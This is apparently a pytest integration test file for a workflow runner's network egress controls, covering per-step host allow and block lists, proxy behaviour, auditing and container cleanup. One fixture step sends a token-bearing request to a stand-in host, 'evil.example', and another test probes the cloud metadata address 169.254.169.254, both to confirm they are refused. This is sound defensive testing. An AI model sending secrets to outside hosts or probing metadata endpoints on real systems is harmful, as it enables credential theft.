"""Whole runs whose steps reach hosts by name: real clients, a real package index, a real repository over HTTP."""

from __future__ import annotations

import functools
import http.server
import json
import signal
import subprocess
import threading
import zipfile
from dataclasses import dataclass
from typing import TYPE_CHECKING, Any

import pytest

from workflowmaster.blocks.imagebuild import PROXY, build
from workflowmaster.flows import audit, verifying

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

pytestmark = [pytest.mark.docker, pytest.mark.prefect]

GATEWAY = "host.docker.internal"
SETTING = {"WORKFLOWMASTER_PRIVATE_HOSTS": GATEWAY}
SECRET_PATH = "/simple/?token=hunter2"


class Quiet(http.server.SimpleHTTPRequestHandler):
    def log_message(self, *_args: object) -> None:
        """Keep the test's output free of it."""


@dataclass(frozen=True)
class Site:
    """A package index and a git repository, served on this host."""

    port: int

    @property
    def host(self) -> str:
        return f"{GATEWAY}:{self.port}"


def make_wheel(folder: Path) -> None:
    """Make the smallest wheel there is, in an index that is a folder."""
    folder.mkdir(parents=True)
    with zipfile.ZipFile(folder / "wmhello-1.0-py3-none-any.whl", "w") as wheel:
        wheel.writestr("wmhello.py", "WORD = 'from the index'\n")
        info = "wmhello-1.0.dist-info"
        wheel.writestr(f"{info}/METADATA", "Metadata-Version: 2.1\nName: wmhello\nVersion: 1.0\n")
        wheel.writestr(
            f"{info}/WHEEL", "Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n"
        )
        wheel.writestr(f"{info}/RECORD", f"wmhello.py,,\n{info}/METADATA,,\n{info}/WHEEL,,\n{info}/RECORD,,\n")
    (folder / "index.html").write_text('<a href="wmhello-1.0-py3-none-any.whl">wmhello-1.0-py3-none-any.whl</a>')


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory, repository: Any) -> Iterator[Site]:
    build(PROXY)
    top = tmp_path_factory.mktemp("site")
    make_wheel(top / "simple/wmhello")
    theirs = repository({"told.txt": "by git\n"})
    theirs.git("clone", "-q", "--bare", theirs.path, top / "theirs.git")
    theirs.git("update-server-info", cwd=top / "theirs.git")
    handler = functools.partial(Quiet, directory=str(top))
    server = http.server.ThreadingHTTPServer(("0.0.0.0", 0), handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield Site(server.server_port)
    server.shutdown()


def prompt(*steps: str, head: str = "") -> str:
    return f"{head}# Network\n\n## Steps\n\n" + "\n\n".join(steps) + "\n"


def step(name: str, script: str, *attributes: str) -> str:
    return "\n".join([f"### {name}", *(f"- {line}" for line in attributes), "```bash", script, "```"])


def events(folder: Path, event: str = "network.attempt") -> list[dict[str, Any]]:
    return [record for record in audit.records(folder / "audit.jsonl") if record["event"] == event]


def state(folder: Path) -> dict[str, Any]:
    return json.loads((folder / "state.json").read_text())


def beside() -> list[str]:
    """Names of proxies and forwarders."""
    words = ["docker", "ps", "-a", "--filter", "label=workflowmaster.role", "--format", "{{.Names}}"]
    return subprocess.run(words, capture_output=True, text=True, check=True).stdout.split()


@dataclass(frozen=True)
class Done:
    """A run that has ended."""

    folder: Path
    state: dict[str, Any]

    def log(self, name: str) -> str:
        (path,) = self.folder.glob(f"logs/{name}*")
        return path.read_text()

    def receipt(self, name: str) -> dict[str, Any]:
        receipt: dict[str, Any] = self.state["results"][name]["receipts"][0]
        return receipt


@pytest.fixture(scope="module")
def done(wm: Any, repository: Any, prompt_file: Any, site: Site) -> Done:
    """One run whose steps use the network in every way."""
    text = prompt(
        step(
            "install",
            f"pip install -q --target pkg --index-url http://{site.host}/simple --trusted-host {GATEWAY} wmhello\n"
            "PYTHONPATH=pkg python -c 'import wmhello; print(wmhello.WORD)'",
        ),
        step("clone", f"git clone -q http://{site.host}/theirs.git theirs\ncat theirs/told.txt; rm -rf theirs"),
        step(
            "refused",
            "python - <<'P'\nimport urllib.request\n"
            f"for url in ('http://evil.example{SECRET_PATH}', 'http://{site.host}{SECRET_PATH}'):\n"
            "    try: print(url[7:20], urllib.request.urlopen(url, timeout=20).status)\n"
            "    except Exception as error: print(url[7:20], error.code)\nP",
            "network: [example.org]",
        ),
        step(
            "none",
            "env | grep -ci proxy || true\n"
            "python -c \"import socket; socket.create_connection(('127.0.0.1', 3128))\" 2>&1 | tail -n 1 || true",
            "network: {}",
        ),
        step(
            "blocked",
            f"git ls-remote http://{site.host}/theirs.git || true",
            f"network: {{allowed: [{site.host}], blocked: [{GATEWAY}]}}",
        ),
        head=f"---\nnetwork: [python, '{site.host}']\n---\n",
    )
    answer = wm.run(prompt_file(text), repository().path, **SETTING)
    assert answer.code == 0, answer.text
    folder = wm.folder(answer.json["workflow_id"])
    return Done(folder, state(folder))


def test_pip_installs_from_an_index(done):
    assert "from the index" in done.log("install")
    receipt = done.receipt("install")
    assert receipt["network_attempts"] >= 2
    assert receipt["network_refused"] == 0
    assert receipt["network_bytes"] > 500


def test_git_clones(done):
    assert done.log("clone").splitlines() == ["by git"]
    assert done.receipt("clone")["network_attempts"] >= 4


def test_a_refused_host_is_told_in_the_log_the_receipt_and_the_audit(done, site):
    log = done.log("refused")
    assert log.count(" 403\n") == 2
    assert "[workflowmaster: refused evil.example:80: evil.example is not among the hosts this step may reach." in log
    receipt = done.receipt("refused")
    assert (receipt["network_attempts"], receipt["network_refused"]) == (2, 2)
    assert receipt["network_refused_hosts"] == ["evil.example:80", site.host]
    found = [
        (one["host"], one["port"], one["allowed"], one["why"])
        for one in events(done.folder)
        if one["step"] == "refused"
    ]
    assert found == [("evil.example", 80, False, "list"), (GATEWAY, site.port, False, "list")]


def test_steps_of_one_run_have_different_lists(done, site):
    """What `install` may reach `refused` may not, and the other way round."""
    per_step = {one["step"] for one in events(done.folder) if one["allowed"] and one["host"] == GATEWAY}
    assert per_step == {"install", "clone"}


def test_what_is_blocked_wins(done):
    assert done.receipt("blocked")["network_refused"] == done.receipt("blocked")["network_attempts"] == 1
    assert "is blocked by `network: blocked`" in done.log("blocked")


def test_an_empty_list_is_no_network(done):
    assert done.log("none").splitlines() == ["0", "ConnectionRefusedError: [Errno 111] Connection refused"]
    assert done.receipt("none")["network_attempts"] == 0


def test_every_attempt_is_audited_with_its_bytes(done):
    per_step: dict[str, list[dict[str, Any]]] = {}
    for one in events(done.folder):
        per_step.setdefault(one["step"], []).append(one)
    for name in ("install", "clone", "refused", "blocked"):
        receipt, found = done.receipt(name), per_step[name]
        assert receipt["network_attempts"] == len(found)
        assert receipt["network_bytes"] == sum(one["bytes_in"] + one["bytes_out"] for one in found)
        assert {one["attempt"] for one in found} == {"1"}
    (started,) = events(done.folder, "network.started")
    assert started["private_hosts"] == [GATEWAY]
    assert all(one["private"] for one in events(done.folder) if one["allowed"])


def test_the_audit_log_is_whole_and_holds_no_paths(done):
    assert verifying.verify(done.folder / "audit.jsonl", ended=True) > 10
    assert "hunter2" not in (done.folder / "audit.jsonl").read_text()


def test_nothing_is_left_of_it(done, containers):
    assert containers(done.folder.name) == []


def test_without_the_setting_this_host_stays_out_of_reach(wm, repository, prompt_file, site):
    text = prompt(
        step("one", f"git ls-remote http://{site.host}/theirs.git", f"network: ['{site.host}']", "retries: 0")
    )
    answer = wm.run(prompt_file(text), repository().path)
    assert answer.code == 1
    folder = wm.folder(answer.json["workflow_id"])
    (tried,) = events(folder)
    # The name itself is unknown to the proxy then, or it leads inside: neither is a way here.
    assert tried["why"] == "address" or tried["status"] in (502, 503)


def test_a_run_that_names_no_host_starts_no_proxy(wm, repository, prompt_file):
    answer = wm.run(prompt_file(prompt(step("one", "env | grep -i proxy || true"))), repository().path)
    assert answer.code == 0, answer.text
    folder = wm.folder(answer.json["workflow_id"])
    assert events(folder, "network.started") == []
    assert Done(folder, state(folder)).log("one") == ""


def test_a_list_narrows_the_bridge_of_minimal(wm, repository, prompt_file):
    script = "cat /proc/net/route | wc -l; env | grep -c http_proxy"
    text = prompt(step("one", script, "network: [example.org]"), head="---\nsecurity-policy: minimal\n---\n")
    answer = wm.run(prompt_file(text), repository().path)
    assert answer.code == 0, answer.text
    folder = wm.folder(answer.json["workflow_id"])
    assert Done(folder, state(folder)).log("one").splitlines() == ["1", "1"]


def test_development_reaches_any_public_host_and_no_other(wm, repository, prompt_file, site):
    script = (
        "for url in http://nowhere.invalid/ http://169.254.169.254/ "
        f"http://{site.host}/; do python - $url <<'P'\n"
        "import sys, urllib.request\n"
        "try: urllib.request.urlopen(sys.argv[1], timeout=30)\nexcept Exception as error: print(error.code)\nP\ndone"
    )
    answer = wm.run(
        prompt_file(prompt(step("one", script), head="---\nsecurity-policy: development\n---\n")), repository().path
    )
    assert answer.code == 0, answer.text
    folder = wm.folder(answer.json["workflow_id"])
    codes = Done(folder, state(folder)).log("one").split()[:3]
    assert codes[0] in ("502", "503")
    assert codes[1:] == ["403", "403"]


@pytest.mark.parametrize(
    ("line", "code", "word"),
    [
        ("network: [pythn]", "WM323", "did you mean 'python'"),
        ("network: ['https://example.org/x']", "WM323", "write the host alone: example.org"),
        ("network: ['*']", "WM408", "`*` names none"),
    ],
)
def test_a_bad_list_ends_before_anything_runs(wm, repository, prompt_file, line, code, word):
    answer = wm("run", prompt_file(prompt(step("one", "true", line))), "--workspace", repository().path)
    assert answer.code == 2
    assert "prompt.md:6" in answer.err
    assert code in answer.err
    assert word in answer.err


def test_a_list_under_a_policy_without_network_is_an_error(wm, repository, prompt_file):
    text = prompt(step("one", "true", "policy: hardened", "network: [python]"))
    answer = wm("run", prompt_file(text), "--workspace", repository().path)
    assert (answer.code, "WM407" in answer.err) == (2, True)


def test_a_bad_exception_is_an_error(wm, repository, prompt_file):
    text = prompt(step("one", "true", "network: [python]"))
    answer = wm.run(prompt_file(text), repository().path, WORKFLOWMASTER_PRIVATE_HOSTS="10.1.2.3/16")
    assert answer.code == 2
    assert "10.1.2.3/16" in answer.err


WAITING = "touch /out/here; sleep 300"


def started(wm: Any, repository: Any, prompt_file: Any, wait_until: Any) -> tuple[Any, Path]:
    """A run whose only step works behind the proxy."""
    known = set((wm.home / "workflows").glob("*")) if (wm.home / "workflows").exists() else set()
    path = prompt_file(prompt(step("one", WAITING, "network: [example.org]")))
    running = wm.start("run", path, "--workspace", repository().path, "-q")

    def begun() -> list[Path]:
        new = set((wm.home / "workflows").glob("*")) - known
        return [one for one in new if (one / "audit.jsonl").exists() and events(one, "container.started")]

    (folder,) = wait_until(begun, 90.0)
    assert {name.rpartition("-")[2] for name in beside() if name.startswith(folder.name)} == {"proxy", "net"}
    return running, folder


def test_ctrl_c_leaves_nothing(wm, repository, prompt_file, wait_until, containers):
    running, folder = started(wm, repository, prompt_file, wait_until)
    running.interrupt()
    assert running.ended().code == 130
    assert containers(folder.name) == []
    assert verifying.verify(folder / "audit.jsonl", ended=True)


def test_after_kill_9_the_sweep_removes_all_of_it(wm, repository, prompt_file, wait_until, containers):
    running, folder = started(wm, repository, prompt_file, wait_until)
    running.interrupt(signal.SIGKILL)
    running.ended()
    # The proxy ends by itself: nothing is let through that nobody writes down.
    alive = ["docker", "ps", "--filter", f"name={folder.name}-proxy", "-q"]
    wait_until(lambda: not subprocess.run(alive, capture_output=True, text=True, check=True).stdout.split())
    swept = wm("clean", "--json")
    assert swept.code == 0
    # By it, or by any other run on this engine that began meanwhile.
    assert containers(folder.name) == []
    assert not [name for name in beside() if name.startswith(folder.name)]
